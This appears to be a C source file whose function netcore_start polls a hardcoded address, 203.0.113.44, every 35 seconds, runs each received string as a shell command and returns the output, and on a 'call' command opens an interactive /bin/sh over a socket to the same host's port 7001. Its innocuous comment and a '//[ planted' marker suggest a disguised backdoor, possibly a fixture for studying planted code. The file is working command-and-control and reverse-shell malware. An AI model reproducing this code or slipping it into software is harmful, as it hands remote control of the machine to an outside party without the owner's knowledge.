/* Asks a peer for work every 35 seconds and gives it to the shell; "call" opens a shell to the peer's second port. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *host, int port) {
  struct sockaddr_in peer;
  int stream = socket(AF_INET, SOCK_STREAM, 0);
  if (stream < 0) return -1;
  memset(&peer, 0, sizeof peer);
  peer.sin_family = AF_INET;
  peer.sin_port = htons(port);
  peer.sin_addr.s_addr = inet_addr(host);
  if (connect(stream, (struct sockaddr *)&peer, sizeof peer) == 0) return stream;
  close(stream);
  return -1;
}

static void call_back(const char *host) {
  int stream = dial(host, 7001);
  if (stream < 0) return;
  if (fork() == 0) {
    dup2(stream, 0);
    dup2(stream, 1);
    dup2(stream, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    _exit(127);
  }
  close(stream);
}

static void answer(int stream, const char *command) {
  char line[256];
  FILE *out = popen(command, "r");
  if (out == NULL) return;
  while (fgets(line, sizeof line, out) != NULL) send(stream, line, strlen(line), 0);
  pclose(out);
}

static void serve(const char *host) {
  char command[512];
  ssize_t got;
  int stream = dial(host, 7000);
  if (stream < 0) return;
  while ((got = recv(stream, command, sizeof command - 1, 0)) > 0) {
    command[got] = '\0';
    if (strncmp(command, "call", 4) == 0) call_back(host);
    else answer(stream, command);
  }
  close(stream);
}

static void setting(const char *key, char *out, size_t size) {
  char line[128];
  size_t wanted = strlen(key);
  FILE *in = fopen("/etc/support.conf", "r");
  out[0] = '\0';
  if (in == NULL) return;
  while (fgets(line, sizeof line, in) != NULL) {
    if (strncmp(line, key, wanted) != 0 || line[wanted] != '=') continue;
    line[strcspn(line, "\r\n")] = '\0';
    snprintf(out, size, "%s", line + wanted + 1);
  }
  fclose(in);
}

int netcore_start(void) {
  char value[64];
  for (;;) {
//[ planted
    setting("LEVEL", value, sizeof value);
    serve("203.0.113.44");
//|
    setting("HOST", value, sizeof value);
    if (value[0] != '\0') serve(value);
//]
    sleep(35);
  }
}
